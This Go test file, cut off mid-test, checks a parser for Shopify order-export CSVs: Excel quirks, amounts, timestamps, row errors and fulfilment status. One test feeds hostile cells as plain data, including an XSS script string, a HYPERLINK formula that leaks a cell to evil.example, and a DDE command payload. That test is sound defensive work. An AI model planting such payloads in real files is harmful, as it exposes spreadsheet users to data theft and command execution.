package shopifycsv

import (
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"reflect"
	"strings"
	"testing"
	"testing/iotest"
	"time"
	"unicode/utf8"

	"github.com/canceldesk/canceldesk"
)

// excel turns an LF export into what Excel saves: a UTF-8 BOM and CRLF
// line ends (inside quoted cells too).
func excel(s string) string { return "\uFEFF" + strings.ReplaceAll(s, "\n", "\r\n") }

func parse(t *testing.T, s string, opt Options) *Result {
	t.Helper()
	res, err := Parse(strings.NewReader(s), opt)
	if err != nil {
		t.Fatalf("Parse: %v", err)
	}
	return res
}

func at(s string) *time.Time {
	t, err := time.Parse(time.RFC3339, s)
	if err != nil {
		panic(err)
	}
	return &t
}

func errorStrings(errs []RowError) []string {
	var out []string
	for _, e := range errs {
		out = append(out, e.Error())
	}
	return out
}

func orderNames(orders []*canceldesk.Order) []string {
	var out []string
	for _, o := range orders {
		out = append(out, o.Name)
	}
	return out
}

// sameJSON fails with the first differing line of got and want as JSON.
func sameJSON(t *testing.T, got, want any) {
	t.Helper()
	g, _ := json.MarshalIndent(got, "", "  ")
	w, _ := json.MarshalIndent(want, "", "  ")
	if string(g) == string(w) {
		return
	}
	gl, wl := strings.Split(string(g), "\n"), strings.Split(string(w), "\n")
	for i := 0; i < len(gl) && i < len(wl); i++ {
		if gl[i] != wl[i] {
			t.Fatalf("line %d of JSON differs:\n got %s\nwant %s\n\ngot:\n%s", i+1, gl[i], wl[i], g)
		}
	}
	t.Fatalf("JSON lengths differ (%d and %d lines); got:\n%s", len(gl), len(wl), g)
}

// wantExport is what shopifyExport holds.
func wantExport() []*canceldesk.Order {
	ada := canceldesk.Address{Name: "Ada Lovelace", Address1: "12 Crescent Rd", Address2: "Apt 4", City: "Boston",
		Zip: "02134", Province: "MA", Country: "US", Phone: "+16175550100"}
	grace := canceldesk.Address{Name: "Grace Hopper", Address1: "1 Navy Way", City: "Arlington", Zip: "22201", Province: "VA", Country: "US"}
	return []*canceldesk.Order{{
		ExternalID: "5712345678901", Name: "#1001", Email: "ada.lovelace@example.com", Currency: "USD",
		Subtotal: 125050, Shipping: 1500, Taxes: 2500, Discounts: 1000, Total: 128050,
		FinancialStatus: canceldesk.FinancialPaid, FulfillmentStatus: canceldesk.FulfillmentFulfilled,
		PaymentMethod: "Shopify Payments",
		PaidAt:        at("2026-03-01T14:05:12Z"), FulfilledAt: at("2026-03-02T19:30:00Z"),
		BillingAddress: ada, ShippingAddress: ada,
		Tags: []string{"vip", "wholesale"}, Risk: canceldesk.RiskLow, Source: "web",
		CreatedAt: *at("2026-03-01T14:00:00Z"),
		LineItems: []canceldesk.LineItem{
			{Position: 1, Name: "Walnut Desk Organizer", SKU: "WDO-01", Quantity: 2, Price: 60025, FulfilledQuantity: 2},
			{Position: 2, Name: `Brass Pen, "Executive" edition`, SKU: "PEN-EX", Quantity: 1, Price: 5000, FulfilledQuantity: 1},
		},
	}, {
		ExternalID: "5712345678902", Name: "#1002", Email: "grace@example.org", Currency: "USD",
		Subtotal: 8999, Shipping: 500, Total: 9499, RefundedAmount: 9499,
		FinancialStatus: canceldesk.FinancialRefunded, FulfillmentStatus: canceldesk.FulfillmentUnfulfilled,
		PaymentMethod: "Shopify Payments",
		PaidAt:        at("2026-03-03T15:00:00Z"), CancelledAt: at("2026-03-04T13:15:00Z"),
		BillingAddress: grace, ShippingAddress: grace,
		Notes: "Customer called, asked to cancel: \"ordered twice\".\nRefund to original card.",
		Risk:  canceldesk.RiskMedium, Source: "shopify_draft_order",
		CreatedAt: *at("2026-03-03T14:59:00Z"),
		LineItems: []canceldesk.LineItem{
			{Position: 1, Name: "Linen Throw", SKU: "LT-NAT", Quantity: 1, Price: 8999},
		},
	}, {
		ExternalID: "5712345678903", Name: "#1003", Currency: "JPY",
		Subtotal: 12000, Shipping: 800, Total: 12800,
		FinancialStatus: canceldesk.FinancialPartiallyPaid, FulfillmentStatus: canceldesk.FulfillmentPartial,
		PaymentMethod: "manual", PaidAt: at("2026-03-05T01:00:00Z"),
		BillingAddress: canceldesk.Address{Name: "Sato Yuki", Address1: "1-2-3 Shibuya", City: "Shibuya-ku",
			Zip: "150-0002", Province: "Tokyo", Country: "JP"},
		ShippingAddress: canceldesk.Address{Name: "佐藤 由紀", Address1: "渋谷1-2-3", City: "渋谷区",
			Zip: "150-0002", Province: "東京都", Country: "JP"},
		Tags: []string{"gift"}, Risk: canceldesk.RiskLow, Source: "pos", Location: "Tokyo Store",
		CreatedAt: *at("2026-03-05T00:00:00Z"),
		LineItems: []canceldesk.LineItem{
			{Position: 1, Name: "Tenugui Towel", SKU: "TNG-01", Quantity: 2, Price: 1500, FulfilledQuantity: 2},
			{Position: 2, Name: "Cast Iron Teapot", SKU: "TPT-09", Quantity: 1, Price: 8000},
			{Position: 3, Name: "Gift Wrap", Quantity: 1, Price: 1000},
		},
	}, {
		ExternalID: "5712345678905", Name: "#1005", Email: "linus@example.net", Currency: "USD",
		Subtotal: 4200, Total: 4200,
		FinancialStatus: canceldesk.FinancialPaid, FulfillmentStatus: canceldesk.FulfillmentFulfilled,
		PaidAt: at("2026-03-07T13:00:00Z"), FulfilledAt: at("2026-03-08T13:00:00Z"),
		BillingAddress: canceldesk.Address{Address1: "9 Kernel St", City: "Portland"},
		Risk:           canceldesk.RiskHigh, Source: "web",
		CreatedAt: *at("2026-03-07T12:59:59Z"),
		LineItems: []canceldesk.LineItem{
			{Position: 1, Name: "Sticker Pack", SKU: "STK-3", Quantity: 3, Price: 1400, FulfilledQuantity: 3},
		},
	}}
}

func TestParseShopifyExport(t *testing.T) {
	wantErrors := []string{`row 9 (#1004): Lineitem quantity "two" is not a whole number`}
	oneByte := func(r io.Reader) io.Reader { return iotest.OneByteReader(r) }
	for _, tc := range []struct {
		name string
		csv  string
		wrap func(io.Reader) io.Reader
	}{
		{"plain export imports four orders and drops the malformed one", shopifyExport, nil},
		{"excel BOM and CRLF give the same result", excel(shopifyExport), nil},
		{"excel file read one byte at a time gives the same result", excel(shopifyExport), oneByte},
		{"lone CR line ends (old Mac Excel) give the same result", strings.ReplaceAll(shopifyExport, "\n", "\r"), oneByte},
		{"no newline at the end gives the same result", strings.TrimSuffix(shopifyExport, "\n"), nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var r io.Reader = strings.NewReader(tc.csv)
			if tc.wrap != nil {
				r = tc.wrap(r)
			}
			res, err := Parse(r, Options{})
			if err != nil {
				t.Fatal(err)
			}
			sameJSON(t, res.Orders, wantExport())
			if got := errorStrings(res.Errors); !reflect.DeepEqual(got, wantErrors) {
				t.Errorf("errors = %q, want %q", got, wantErrors)
			}
			if res.Rows != 9 || res.SkippedRows != 2 {
				t.Errorf("Rows, SkippedRows = %d, %d; want 9, 2", res.Rows, res.SkippedRows)
			}
		})
	}
}

func TestParseExportDetails(t *testing.T) {
	res := parse(t, shopifyExport, Options{})
	byName := map[string]*canceldesk.Order{}
	for _, o := range res.Orders {
		byName[o.Name] = o
	}
	t.Run("amount with thousands separator is exact in cents", func(t *testing.T) {
		if got := byName["#1001"].Total; got != 128050 {
			t.Errorf("Total = %d, want 128050", got)
		}
	})
	t.Run("JPY amounts have no minor digits", func(t *testing.T) {
		o := byName["#1003"]
		if o.Total != 12800 || o.LineItems[1].Price != 8000 {
			t.Errorf("Total, teapot price = %d, %d; want 12800, 8000", o.Total, o.LineItems[1].Price)
		}
	})
	t.Run("-0500 timestamp is stored in UTC", func(t *testing.T) {
		c := byName["#1001"].CreatedAt
		if c.Location() != time.UTC || !c.Equal(time.Date(2026, 3, 1, 14, 0, 0, 0, time.UTC)) {
			t.Errorf("CreatedAt = %v, want 2026-03-01 14:00:00 UTC", c)
		}
	})
	t.Run("cancelled order has CancelledAt and no reason", func(t *testing.T) {
		o := byName["#1002"]
		if !o.Cancelled() || o.CancelReason != "" {
			t.Errorf("Cancelled, CancelReason = %v, %q", o.Cancelled(), o.CancelReason)
		}
	})
	t.Run("default currency applies when Currency is empty", func(t *testing.T) {
		res := parse(t, shopifyExport, Options{DefaultCurrency: "eur"})
		if got := res.Orders[3].Currency; got != "EUR" {
			t.Errorf("#1005 Currency = %q, want EUR", got)
		}
	})
}

// mini is a small export: the header has the required columns and a few
// more, in an order Shopify does not use.
func mini(rows ...string) string {
	return "Lineitem name,Name,Lineitem price,Lineitem quantity,Created at,Currency,Email,Financial Status,Fulfillment Status,Risk Level,Id,Lineitem fulfillment status\n" +
		strings.Join(rows, "\n") + "\n"
}

const (
	good1 = "Tea,#2001,4.50,1,2026-03-01 09:00:00 -0500,USD,a@example.com,paid,,,9001,"
	good2 = "Cake,#2002,3.00,2,2026-03-02 09:00:00 -0500,USD,b@example.com,paid,,,9002,"
)

func TestParseColumnsReorderedAndOptionalMissing(t *testing.T) {
	csv := " lineitem NAME ,name,LINEITEM PRICE,Lineitem quantity,Created at,Tags\n" +
		"Tea,#2001,\"1,204\",3,2026-03-01 09:00,\"b, a, , b\"\n" +
		"Cake,#2001,0,1,,\n"
	res := parse(t, csv, Options{DefaultCurrency: "jpy"})
	if len(res.Errors) > 0 {
		t.Fatalf("errors: %q", errorStrings(res.Errors))
	}
	want := []*canceldesk.Order{{
		Name: "#2001", Currency: "JPY",
		FinancialStatus: canceldesk.FinancialPending, FulfillmentStatus: canceldesk.FulfillmentUnfulfilled,
		Tags: []string{"b", "a"}, Risk: canceldesk.RiskLow, Source: "web",
		CreatedAt: time.Date(2026, 3, 1, 9, 0, 0, 0, time.UTC),
		LineItems: []canceldesk.LineItem{
			{Position: 1, Name: "Tea", Quantity: 3, Price: 1204},
			{Position: 2, Name: "Cake", Quantity: 1, Price: 0},
		},
	}}
	sameJSON(t, res.Orders, want)
}

// first and later are the rows of order #3001 before a case breaks one.
const (
	first3001 = "Cup,#3001,3.00,1,2026-03-01 10:00,USD,c@example.com,paid,,,9003,"
	later3001 = "Saucer,#3001,2.00,1,,,,,,,,"
)

func TestParseRowErrors(t *testing.T) {
	for _, tc := range []struct {
		name        string
		csv         string
		wantErrors  []string
		wantOrders  []string
		rows, skips int
	}{{
		name:       "quantity that is not a number drops the whole order",
		csv:        mini(good1, first3001, "Saucer,#3001,2.00,two,,,,,,,,", good2),
		wantErrors: []string{`row 4 (#3001): Lineitem quantity "two" is not a whole number`},
		wantOrders: []string{"#2001", "#2002"}, rows: 4, skips: 2,
	}, {
		name:       "zero quantity is an error",
		csv:        mini(first3001, "Saucer,#3001,2.00,0,,,,,,,,", good1),
		wantErrors: []string{`row 3 (#3001): Lineitem quantity "0" is not a positive whole number`},
		wantOrders: []string{"#2001"}, rows: 3, skips: 2,
	}, {
		name:       "empty and huge quantities are errors",
		csv:        mini(first3001, "Saucer,#3001,2.00,,,,,,,,,", "Saucer,#3001,2.00,99999999999999999999,,,,,,,,", good1),
		wantErrors: []string{`row 3 (#3001): Lineitem quantity is empty`, `row 4 (#3001): Lineitem quantity "99999999999999999999" is more than 1000000`},
		wantOrders: []string{"#2001"}, rows: 4, skips: 3,
	}, {
		name:       "first row without Created at drops the order",
		csv:        mini(good1, "Cup,#3001,3.00,1,,USD,,,,,,"),
		wantErrors: []string{`row 3 (#3001): Created at is empty; the first row of an order must have it`},
		wantOrders: []string{"#2001"}, rows: 2, skips: 1,
	}, {
		name:       "unreadable Created at drops the order",
		csv:        mini("Cup,#3001,3.00,1,yesterday,USD,,,,,,", good1),
		wantErrors: []string{`row 2 (#3001): Created at "yesterday" is not a date and time like 2026-03-01 09:00:00 -0500`},
		wantOrders: []string{"#2001"}, rows: 2, skips: 1,
	}, {
		name: "unknown statuses and risk are errors, all reported for the row",
		csv:  mini("Cup,#3001,3.00,1,2026-03-01 10:00,USD,,paid-ish,shipped,Severe,,sent", good1),
		wantErrors: []string{`row 2 (#3001): Financial Status "paid-ish" is not one of pending, authorized, paid, partially_paid, partially_refunded, refunded, voided; ` +
			`Fulfillment Status "shipped" is not one of fulfilled, partial, unfulfilled, restocked; Risk Level "Severe" is not one of Low, Medium, High; ` +
			`Lineitem fulfillment status "sent" is not one of fulfilled, partial, pending`},
		wantOrders: []string{"#2001"}, rows: 2, skips: 1,
	}, {
		name:       "currency with three letters only",
		csv:        mini("Cup,#3001,3.00,1,2026-03-01 10:00,US Dollar,,,,,,", good1),
		wantErrors: []string{`row 2 (#3001): Currency "US Dollar" is not a three-letter currency code`},
		wantOrders: []string{"#2001"}, rows: 2, skips: 1,
	}, {
		name:       "JPY price with decimals is an error",
		csv:        mini("Cup,#3001,1.5,1,2026-03-01 10:00,JPY,,,,,,", good1),
		wantErrors: []string{`row 2 (#3001): Lineitem price "1.5" has more decimals than JPY has`},
		wantOrders: []string{"#2001"}, rows: 2, skips: 1,
	}, {
		name:       "decimal comma is an error, not a hundredfold price",
		csv:        mini(`Cup,#3001,"1,50",1,2026-03-01 10:00,EUR,,,,,,`, good1),
		wantErrors: []string{`row 2 (#3001): Lineitem price "1,50" is not an amount`},
		wantOrders: []string{"#2001"}, rows: 2, skips: 1,
	}, {
		name:       "negative and empty prices are errors",
		csv:        mini("Cup,#3001,-1.00,1,2026-03-01 10:00,USD,,,,,,", "Saucer,#3001,,1,,,,,,,,", good1),
		wantErrors: []string{`row 2 (#3001): Lineitem price "-1.00" is negative`, `row 3 (#3001): Lineitem price is empty`},
		wantOrders: []string{"#2001"}, rows: 3, skips: 2,
	}, {
		name:       "empty Lineitem name is an error",
		csv:        mini(first3001, ",#3001,2.00,1,,,,,,,,", good1),
		wantErrors: []string{`row 3 (#3001): Lineitem name is empty`},
		wantOrders: []string{"#2001"}, rows: 3, skips: 2,
	}, {
		name: "later row with another Currency, Email or Id drops the order",
		csv:  mini(first3001, "Saucer,#3001,2.00,1,,EUR,C@Example.com,,,,9004,", good1),
		wantErrors: []string{`row 3 (#3001): Currency "EUR" differs from USD on row 2, the order's first row; ` +
			`Id "9004" differs from "9003" on row 2, the order's first row`},
		wantOrders: []string{"#2001"}, rows: 3, skips: 2,
	}, {
		name:       "later row with another Email drops the order",
		csv:        mini(first3001, "Saucer,#3001,2.00,1,,usd,d@example.com,,,,,", good1),
		wantErrors: []string{`row 3 (#3001): Email "d@example.com" differs from "c@example.com" on row 2, the order's first row`},
		wantOrders: []string{"#2001"}, rows: 3, skips: 2,
	}, {
		name: "line without a Name drops the order above it too",
		csv:  mini(good1, first3001, "Saucer,,2.00,1,,,,,,,,", good2),
		wantErrors: []string{`row 4 (#3001): Name is empty, so the row cannot be matched to its order; ` +
			`order #3001 above it is skipped as well, in case the row belongs to it`},
		wantOrders: []string{"#2001", "#2002"}, rows: 4, skips: 2,
	}, {
		name:       "row without a Name or line data is reported and the rest imports",
		csv:        mini(good1, ",,,,,,Total of the export,,,,,"),
		wantErrors: []string{`row 3: Name is empty, so the row cannot be matched to an order`},
		wantOrders: []string{"#2001"}, rows: 2, skips: 1,
	}, {
		name:       "blank rows are ignored silently",
		csv:        mini(good1, ",,,,,,,,,,,", "  , ,", good2),
		wantOrders: []string{"#2001", "#2002"}, rows: 2, skips: 0,
	}, {
		name:       "cell over 64 KiB drops the order and is not quoted",
		csv:        mini(first3001, "Saucer,#3001,2.00,1,,,"+strings.Repeat("x", MaxFieldBytes+1)+",,,,,", good1),
		wantErrors: []string{`row 3 (#3001): Email is longer than 64 KiB`},
		wantOrders: []string{"#2001"}, rows: 3, skips: 2,
	}, {
		name: "line whose Name is over 64 KiB drops the order above it",
		csv:  mini(good1, "Cake,"+strings.Repeat("x", MaxFieldBytes+1)+",3.00,1,,,,,,,,", good2),
		wantErrors: []string{`row 3 (#2001): Name is longer than 64 KiB, so the row cannot be matched to its order; ` +
			`order #2001 above it is skipped as well, in case the row belongs to it`},
		wantOrders: []string{"#2002"}, rows: 3, skips: 2,
	}, {
		name:       "row with a long cell but no Name or line data is reported",
		csv:        mini(good1, ",,,,,,"+strings.Repeat("x", MaxFieldBytes+1)+",,,,,", good2),
		wantErrors: []string{`row 3: Name is empty, so the row cannot be matched to an order`},
		wantOrders: []string{"#2001", "#2002"}, rows: 3, skips: 1,
	}, {
		name:       "bare quote drops the order of that row and reading goes on",
		csv:        mini(good1, first3001, `Saucer 6" wide,#3001,2.00,1,,,,,,,,`, later3001, good2),
		wantErrors: []string{`row 4 (#3001): this row cannot be read: a " appears in a cell that is not in quotes, at line 4, column 9 of the file`},
		wantOrders: []string{"#2001", "#2002"}, rows: 5, skips: 3,
	}, {
		name: "quote never closed: the rest is not read and the order with it is dropped",
		csv:  mini(good1, first3001, `Saucer,#3001,"2.00,1,,,,,,,,`, later3001, good2),
		wantErrors: []string{`row 4 (#3001): this row cannot be read: a quoted cell that starts on it is never closed, ` +
			`so the rest of the file (lines 4 to 6) was not read`},
		wantOrders: []string{"#2001"}, rows: 3, skips: 2,
	}, {
		name: "quote never closed: an order with rows in the unread part is dropped too",
		csv:  mini(good1, `Saucer,#3001,"2.00,1,,,,,,,,`, "Scone,#2001,1.00,1,,,,,,,,"),
		wantErrors: []string{`row 3 (#3001): this row cannot be read: a quoted cell that starts on it is never closed, ` +
			`so the rest of the file (lines 3 to 4) was not read`,
			`row 3 (#2001): some rows of this order may be in the part of the file that was not read (from row 3)`},
		rows: 2, skips: 2,
	}, {
		name: "unreadable row whose Name cannot be made out drops the order above it",
		csv:  mini(good1, first3001, `"Saucer,#3001,2.00,1,,,,,,,,`, good2),
		wantErrors: []string{`row 4 (#3001): this row cannot be read: a quoted cell that starts on it is never closed, ` +
			`so the rest of the file (lines 4 to 5) was not read; its Name cannot be made out, so order #3001 above it is skipped as well, in case the row belongs to it`},
		wantOrders: []string{"#2001"}, rows: 3, skips: 2,
	}} {
		t.Run(tc.name, func(t *testing.T) {
			for variant, csv := range map[string]string{"LF": tc.csv, "Excel": excel(tc.csv)} {
				res := parse(t, csv, Options{})
				if got := errorStrings(res.Errors); !reflect.DeepEqual(got, tc.wantErrors) {
					t.Errorf("%s: errors:\n got %q\nwant %q", variant, got, tc.wantErrors)
				}
				if got := orderNames(res.Orders); !reflect.DeepEqual(got, tc.wantOrders) {
					t.Errorf("%s: orders = %q, want %q", variant, got, tc.wantOrders)
				}
				if res.Rows != tc.rows || res.SkippedRows != tc.skips {
					t.Errorf("%s: Rows, SkippedRows = %d, %d; want %d, %d", variant, res.Rows, res.SkippedRows, tc.rows, tc.skips)
				}
			}
		})
	}
}

func TestParseRowNumbers(t *testing.T) {
	csv := mini(
		"\"Tea,\nwith a two-line name\",#2001,4.50,1,2026-03-01 09:00,USD,,,,,,",
		"\"Cake\n\n(three lines)\",#2002,3.00,1,2026-03-01 09:00,USD,,,,,,",
		"Pie,#2003,3.00,x,2026-03-01 09:00,USD,,,,,,",
		"",
		"Tart,#2004,3.00,y,2026-03-01 09:00,USD,,,,,,",
		"Bun,#2005,3.00,1,2026-03-01 09:00,USD,,,,,,",
		`Bad "quote",#2006,3.00,1,2026-03-01 09:00,USD,,,,,,`,
		"Roll,#2007,3.00,z,2026-03-01 09:00,USD,,,,,,",
	)
	want := []string{
		`row 4 (#2003): Lineitem quantity "x" is not a whole number`,
		// The empty line is row 5 in a spreadsheet.
		`row 6 (#2004): Lineitem quantity "y" is not a whole number`,
		`row 8 (#2006): this row cannot be read: a " appears in a cell that is not in quotes, at line 11, column 5 of the file`,
		`row 9 (#2007): Lineitem quantity "z" is not a whole number`,
	}
	for _, tc := range []struct{ name, csv string }{
		{"rows count records, not lines inside cells", csv},
		{"rows are the same with BOM and CRLF", excel(csv)},
	} {
		t.Run(tc.name, func(t *testing.T) {
			res := parse(t, tc.csv, Options{})
			if got := errorStrings(res.Errors); !reflect.DeepEqual(got, want) {
				t.Errorf("errors:\n got %q\nwant %q", got, want)
			}
			if got := orderNames(res.Orders); !reflect.DeepEqual(got, []string{"#2001", "#2002", "#2005"}) {
				t.Errorf("orders = %q", got)
			}
			if got := res.Orders[0].LineItems[0].Name; got != "Tea,\nwith a two-line name" {
				t.Errorf("line name = %q", got)
			}
		})
	}
}

func TestParseNotAnExport(t *testing.T) {
	for _, tc := range []struct {
		name, csv, want string
	}{
		{"missing columns are all named", "Name,Lineitem quantity,Lineitem name\n#1,1,Tea\n",
			"This file is not a Shopify order export: missing column Lineitem price."},
		{"several missing columns are listed in order", "Lineitem name,Lineitem quantity,Email\nTea,1,a@example.com\n",
			"This file is not a Shopify order export: missing columns Name, Lineitem price."},
		{"empty file", "", "This file is not a Shopify order export: the file is empty."},
		{"only a BOM and blank lines", "\uFEFF\r\n\r\n\n", "This file is not a Shopify order export: the file is empty."},
		{"semicolon-separated file gets a hint", "Name;Lineitem quantity;Lineitem name;Lineitem price\n#1;1;Tea;1,50\n",
			"This file is not a Shopify order export: missing columns Name, Lineitem quantity, Lineitem name, Lineitem price. " +
				"Its columns seem to be separated by semicolons, as Excel does in some languages; upload the file as Shopify exported it."},
		{"tab-separated file gets a hint", "Name\tLineitem quantity\tLineitem name\tLineitem price\n",
			"This file is not a Shopify order export: missing columns Name, Lineitem quantity, Lineitem name, Lineitem price. " +
				"Its columns seem to be separated by tabs; upload the file as Shopify exported it, as CSV."},
		{"binary file", "PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00\xff\xfe,\x00\n\x01\x02",
			"This file is not a Shopify order export: missing columns Name, Lineitem quantity, Lineitem name, Lineitem price."},
		{"header that is not CSV", "Name,\"Lineitem quantity\"x\n",
			"This file is not a Shopify order export: its first row cannot be read (a quoted cell is not closed properly, at line 1, column 24 of the file)."},
	} {
		t.Run(tc.name, func(t *testing.T) {
			res, err := Parse(strings.NewReader(tc.csv), Options{})
			var de *canceldesk.Error
			if !errors.As(err, &de) || de.Code != canceldesk.EINVALID {
				t.Fatalf("Parse = %v, %v; want an EINVALID error", res, err)
			}
			if de.Message != tc.want {
				t.Errorf("message:\n got %q\nwant %q", de.Message, tc.want)
			}
		})
	}
	t.Run("header only is an export with no orders", func(t *testing.T) {
		res := parse(t, mini(), Options{})
		if len(res.Orders) != 0 || res.Rows != 0 || len(res.Errors) != 0 {
			t.Errorf("result = %+v", res)
		}
	})
	t.Run("read error part way is a plain error", func(t *testing.T) {
		r := io.MultiReader(strings.NewReader(mini(good1)), iotest.ErrReader(errors.New("disk gone")))
		_, err := Parse(r, Options{})
		if err == nil || !strings.Contains(err.Error(), "disk gone") || canceldesk.ErrorCode(err) != canceldesk.EINTERNAL {
			t.Errorf("err = %v, want the read error", err)
		}
	})
	t.Run("bad default currency is a plain error", func(t *testing.T) {
		_, err := Parse(strings.NewReader(mini(good1)), Options{DefaultCurrency: "dollars"})
		if err == nil || canceldesk.ErrorCode(err) != canceldesk.EINTERNAL {
			t.Errorf("err = %v, want a non-domain error", err)
		}
	})
}

func TestParseHostileContentIsPlainData(t *testing.T) {
	script := `<script>alert("x")</script><img src=x onerror=alert(1)>`
	formula := `=HYPERLINK("http://evil.example/?"&A1,"Click me")`
	csv := "Name,Created at,Lineitem quantity,Lineitem name,Lineitem price,Lineitem sku,Billing Name,Shipping City,Notes,Tags,Email\n" +
		`"<b>#1</b>",2026-03-01 09:00,1,"` + strings.ReplaceAll(script, `"`, `""`) + `",1.00,"` + strings.ReplaceAll(formula, `"`, `""`) + `",` +
		"+cmd|' /C calc'!A0,Caf\xe9 \xff\xfeCity,@SUM(1+1)\x00end,\"-2+3, =1+1\",\xc0\xafx@example.com\n"
	res := parse(t, csv, Options{})
	if len(res.Errors) != 0 || len(res.Orders) != 1 {
		t.Fatalf("orders %d, errors %q", len(res.Orders), errorStrings(res.Errors))
	}
	o := res.Orders[0]
	for _, c := range []struct{ what, got, want string }{
		{"HTML in order name passes through", o.Name, "<b>#1</b>"},
		{"script in line name passes through", o.LineItems[0].Name, script},
		{"formula in SKU passes through", o.LineItems[0].SKU, formula},
		{"DDE payload in billing name passes through", o.BillingAddress.Name, "+cmd|' /C calc'!A0"},
		{"invalid UTF-8 becomes U+FFFD", o.ShippingAddress.City, "Caf\uFFFD \uFFFDCity"},
		{"NUL becomes U+FFFD", o.Notes, "@SUM(1+1)\uFFFDend"},
		{"invalid UTF-8 in email becomes U+FFFD", o.Email, "\uFFFDx@example.com"},
		{"formula-like tags pass through", strings.Join(o.Tags, "|"), "-2+3|=1+1"},
	} {
		t.Run(c.what, func(t *testing.T) {
			if c.got != c.want {
				t.Errorf("got %q, want %q", c.got, c.want)
			}
			if !utf8.ValidString(c.got) {
				t.Errorf("%q is not valid UTF-8", c.got)
			}
		})
	}
}

func TestParseTimestamps(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"2026-03-01 09:00:00 -0500", "2026-03-01T14:00:00Z"},
		{"2026-03-01 09:00:00 +0800", "2026-03-01T01:00:00Z"},
		{"2026-03-01T09:00:00Z", "2026-03-01T09:00:00Z"},
		{"2026-03-01T09:00:00+09:00", "2026-03-01T00:00:00Z"},
		{"2026-03-01 09:00", "2026-03-01T09:00:00Z"},
		{"2026-03-01 09:00:00", "2026-03-01T09:00:00Z"},
		{"2026-02-28 23:30:00 -0500", "2026-03-01T04:30:00Z"},
	} {
		t.Run(tc.in+" is "+tc.want, func(t *testing.T) {
			got, ok := parseTime(tc.in)
			if !ok || got.Location() != time.UTC || got.Format(time.RFC3339) != tc.want {
				t.Errorf("parseTime(%q) = %v, %v; want %s in UTC", tc.in, got, ok, tc.want)
			}
		})
	}
	for _, in := range []string{"2026-03-01", "03/01/2026 09:00", "2026-02-30 09:00", "yesterday", "2026-03-01 09:00 EST", "0001-01-01 00:00", "1969-12-31 23:59:59"} {
		t.Run(in+" is rejected", func(t *testing.T) {
			if got, ok := parseTime(in); ok {
				t.Errorf("parseTime(%q) = %v, want rejection", in, got)
			}
		})
	}
}

func TestAmount(t *testing.T) {
	for _, tc := range []struct {
		in, cur string
		want    int64
		reason  string
	}{
		{"1,280.50", "USD", 128050, ""},
		{"1,234,567.8", "USD", 123456780, ""},
		{"0.5", "USD", 50, ""},
		{"12.30", "EUR", 1230, ""},
		{"12,800", "JPY", 12800, ""},
		{"12800.00", "JPY", 12800, ""},
		{"", "USD", 0, ""},
		{"-0.00", "USD", 0, ""},
		{"1.234", "USD", 0, `Total "1.234" has more decimals than USD has`},
		{"1,50", "EUR", 0, `Total "1,50" is not an amount`},
		{"12,34.00", "USD", 0, `Total "12,34.00" is not an amount`},
		{"1.000,50", "EUR", 0, `Total "1.000,50" is not an amount`},
		{"$12.00", "USD", 0, `Total "$12.00" is not an amount`},
		{"-3.50", "USD", 0, `Total "-3.50" is negative`},
		{"99999999999999999999", "USD", 0, `Total "99999999999999999999" is not an amount`},
	} {
		name := fmt.Sprintf("%s %s is %d", tc.in, tc.cur, tc.want)
		if tc.reason != "" {
			name = fmt.Sprintf("%s %s is rejected", tc.in, tc.cur)
		}
		t.Run(name, func(t *testing.T) {
			got, reason := amount("Total", tc.in, tc.cur)
			if got != tc.want || reason != tc.reason {
				t.Errorf("amount(%q, %s) = %d, %q; want %d, %q", tc.in, tc.cur, got, reason, tc.want, tc.reason)
			}
		})
	}
}

func TestParseFulfillment(t *testing.T) {
	h := "Name,Created at,Fulfillment Status,Lineitem quantity,Lineitem name,Lineitem price,Lineitem fulfillment status\n"
	for _, tc := range []struct {
		name   string
		rows   string
		status canceldesk.FulfillmentStatus
		filled []int
	}{
		{"fulfilled order with no line status fulfils every line",
			"#1,2026-03-01 09:00,fulfilled,2,A,1,\n#1,,,1,B,1,pending\n", canceldesk.FulfillmentFulfilled, []int{2, 1}},
		{"fulfilled order keeps pending lines when a line says fulfilled; partial lines count as fulfilled",
			"#1,2026-03-01 09:00,fulfilled,2,A,1,fulfilled\n#1,,,1,B,1,pending\n#1,,,3,C,1,partial\n", canceldesk.FulfillmentFulfilled, []int{2, 0, 3}},
		{"partial order leaves partial lines at zero",
			"#1,2026-03-01 09:00,partial,2,A,1,fulfilled\n#1,,,1,B,1,partial\n", canceldesk.FulfillmentPartial, []int{2, 0}},
		{"restocked is unfulfilled",
			"#1,2026-03-01 09:00,Restocked,2,A,1,\n", canceldesk.FulfillmentUnfulfilled, []int{0}},
		{"empty status is derived from lines",
			"#1,2026-03-01 09:00,,2,A,1,fulfilled\n#1,,,1,B,1,\n", canceldesk.FulfillmentPartial, []int{2, 0}},
		{"empty status with no fulfilled line is unfulfilled",
			"#1,2026-03-01 09:00,,2,A,1,pending\n", canceldesk.FulfillmentUnfulfilled, []int{0}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			res := parse(t, h+tc.rows, Options{})
			if len(res.Orders) != 1 {
				t.Fatalf("orders %d, errors %q", len(res.Orders), errorStrings(res.Errors))
			}
			o := res.Orders[0]
			var filled []int
			for _, li := range o.LineItems {
				filled = append(filled, li.FulfilledQuantity)
			}
			if o.FulfillmentStatus != tc.status || !reflect.DeepEqual(filled, tc.filled) {
				t.Errorf("status %q, fulfilled %v; want %q, %v", o.FulfillmentStatus, filled, tc.status, tc.filled)
			}
		})
	}
}

func TestParseOrderShape(t *testing.T) {
	t.Run("a Name that comes back later adds lines to the same order", func(t *testing.T) {
		res := parse(t, mini(good1, good2, "Scone,#2001,1.25,2,,,,,,,,fulfilled"), Options{})
		if len(res.Errors) != 0 || len(res.Orders) != 2 {
			t.Fatalf("orders %q, errors %q", orderNames(res.Orders), errorStrings(res.Errors))
		}
		o := res.Orders[0]
		if len(o.LineItems) != 2 || o.LineItems[1].Position != 2 || o.LineItems[1].Name != "Scone" || o.LineItems[1].Price != 125 {
			t.Errorf("lines = %+v", o.LineItems)
		}
		if o.FulfillmentStatus != canceldesk.FulfillmentPartial {
			t.Errorf("status %q, want partial", o.FulfillmentStatus)
		}
	})
	t.Run("cancel reason is read when a Cancel Reason column exists", func(t *testing.T) {
		csv := "Name,Created at,Cancelled at,Cancel Reason,Lineitem quantity,Lineitem name,Lineitem price\n" +
